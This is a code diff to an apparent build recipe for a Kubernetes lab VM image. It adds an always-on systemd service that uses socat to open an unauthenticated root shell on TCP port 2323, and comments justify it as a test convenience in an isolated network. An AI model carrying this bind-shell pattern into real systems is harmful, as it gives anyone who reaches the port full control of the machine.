@@ -28,6 +28,18 @@ CONFLIST = """{
   ]
 }
 """
+# Containers are entered from outside; in a virtual machine nothing else of the lab's network runs commands for us.
+SHELL_PORT = 2323
+_SHELL = f"""[Unit]
+Description=A root shell for the tests, in a network where nobody else is
+ConditionVirtualization=vm
+After=network.target
+[Service]
+ExecStart=/usr/bin/socat -t 600 TCP-LISTEN:{SHELL_PORT},fork,reuseaddr EXEC:/bin/sh
+Restart=always
+[Install]
+WantedBy=multi-user.target
+"""
 NODE = Recipe(
     "kubernetes",
     (
@@ -36,8 +48,12 @@ NODE = Recipe(
         *("ipset", "ipvsadm", "iputils-ping", "jq", "etcd-server", "etcd-client", "haproxy", "keepalived"),
         *("nginx", "libnginx-mod-stream"),
     ),
-    {**DEBIAN.files, "etc/cni/net.d/10-lab.conflist": CONFLIST},
-    enable=DEBIAN.enable,
+    {
+        **DEBIAN.files,
+        "etc/cni/net.d/10-lab.conflist": CONFLIST,
+        "etc/systemd/system/lab-shell.service": _SHELL,
+    },
+    enable=(*DEBIAN.enable, "lab-shell.service"),
     disable=("etcd.service", "haproxy.service", "keepalived.service", "nginx.service", "containerd.service"),
     mask=DEBIAN.mask,
     megabytes=6144,
